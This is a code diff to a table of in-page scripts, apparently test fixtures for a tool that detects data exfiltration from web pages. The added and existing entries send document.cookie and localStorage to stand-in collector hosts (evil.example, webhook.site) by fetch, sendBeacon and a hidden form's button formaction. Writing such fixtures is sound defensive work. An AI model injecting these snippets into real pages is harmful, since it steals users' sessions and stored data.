@@ -440,6 +440,9 @@ export const MAIN_WORLD_SCRIPTS = {
   });
 })();`,
 
+  /** Sends the cookie in a URL padded past 2 KB (longer than a finding's strings may be). */
+  'padded-url': `fetch('https://evil.example/padded?c=' + encodeURIComponent(document.cookie) + '&pad=' + 'x'.repeat(4000), { mode: 'no-cors' }).catch(() => {});`,
+
   /** Leaks storage by sendBeacon to a webhook site. */
   'beacon-storage': `navigator.sendBeacon('https://webhook.site/5c1a-test', JSON.stringify({ ...localStorage, cookie: document.cookie }));`,
 
@@ -493,7 +496,7 @@ export const MAIN_WORLD_SCRIPTS = {
   }
 })();`,
 
-  /** Posts a hidden form to a paste site. */
+  /** Posts hidden forms: one to a paste site, one by requestSubmit(button) whose formaction is a collector. */
   'form-post': `(() => {
   const form = document.createElement('form');
   form.method = 'POST';
@@ -508,6 +511,18 @@ export const MAIN_WORLD_SCRIPTS = {
   form.appendChild(field);
   document.body.append(frame, form);
   form.submit();
+  // The shop's own action on the form, the collector on its button's formaction (which overrides it).
+  const second = document.createElement('form');
+  second.method = 'POST';
+  second.action = '/kz/search';
+  second.target = 'helper-sink';
+  const button = document.createElement('button');
+  button.formAction = 'https://evil.example/formaction';
+  const copy = field.cloneNode();
+  copy.value = document.cookie;
+  second.append(copy, button);
+  document.body.append(second);
+  second.requestSubmit(button);
 })();`,
 
   /** A "script pixel": the data goes out in the URL of a script element. */
